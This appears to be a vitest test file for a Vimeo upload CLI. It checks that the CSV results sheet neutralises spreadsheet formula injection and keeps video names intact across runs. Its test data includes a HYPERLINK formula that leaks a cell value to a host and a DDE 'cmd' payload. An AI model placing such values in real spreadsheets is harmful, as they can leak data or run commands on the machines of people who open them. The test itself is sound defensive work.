// A name such as =HYPERLINK("http://…") in a sheet of results is run by the spreadsheet that opens it.
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { type Emulated, emulated } from '../../packages/cli/test/support/emulated.js';

const names = [
  '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  "'=quoted already",
  "''-twice",
  "'tis no formula",
  '\uff1dfull width',
  'plain, with "quotes"',
  'a=b',
];

async function namesAt({ vimeo }: Emulated): Promise<string[]> {
  const all = await vimeo.paginate('/me/videos', { fields: ['name'] }).toArray();
  return all.map(({ name }) => name).sort();
}

async function sheetOf(here: Emulated, file: string): Promise<Record<string, string>[]> {
  return parse(await readFile(join(here.folder, file), 'utf8'), { columns: true });
}

describe('a sheet of results', () => {
  it('has no cell that a spreadsheet would run, and is read as it was meant', async () => {
    await using here = await emulated();
    const rows = names.map((name, index) => ({
      file: `${['=', '-', '@', '+', ''][index % 5]}video ${index}.mp4`,
      name,
      '=own()': `@${index}`,
    }));
    for (const { file } of rows) await writeFile(join(here.folder, file), `video ${file}`);
    // And one that fails, in the words of a file's name.
    rows.push({ file: '=missing().mp4', name: 'Missing', '=own()': '' });
    await writeFile(join(here.folder, 'films.csv'), stringify(rows, { header: true }));
    expect((await here.run(['upload', 'films.csv'])).code).toBe(1);
    expect(await namesAt(here)).toEqual([...names].sort());

    const sheet = await sheetOf(here, 'films.results.csv');
    expect(sheet).toHaveLength(rows.length);
    for (const [name, cell] of sheet.flatMap((row) => Object.entries(row)))
      for (const text of [name, cell]) expect(text).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
    expect(sheet[0]).toMatchObject({
      name: `'${names[0]}`,
      file: "'=video 0.mp4",
      "'=own()": "'@0",
      state: 'done',
    });
    expect(sheet[6]).toMatchObject({ name: "'tis no formula" });

    // What is done is found again under its own name.
    const again = await here.run(['upload', 'films.csv']);
    expect(again.stderr.match(/: unchanged, /g)).toHaveLength(names.length);
    expect(await namesAt(here)).toHaveLength(names.length);

    // The results as a manifest, for another account: every name as it was.
    await using other = await emulated();
    const results = await readFile(join(here.folder, 'films.results.csv'), 'utf8');
    const forgotten = parse<Record<string, string>>(results, { columns: true }).map((row) => ({
      ...row,
      state: '',
      uri: '',
      link: '',
      error: '',
    }));
    await writeFile(join(other.folder, 'films.csv'), stringify(forgotten, { header: true }));
    for (const { file } of rows) await writeFile(join(other.folder, file), `video ${file}`);
    expect((await other.run(['upload', 'films.csv'])).code).toBe(0);
    expect(await namesAt(other)).toEqual([...names, 'Missing'].sort());
  });

  it('leaves a manifest of somebody else as it is', async () => {
    await using here = await emulated();
    await writeFile(join(here.folder, 'film.mp4'), 'film');
    await writeFile(join(here.folder, 'films.csv'), "file,name\nfilm.mp4,'=as it stands\n");
    expect((await here.run(['upload', 'films.csv'])).code).toBe(0);
    expect(await namesAt(here)).toEqual(["'=as it stands"]);
  });
});
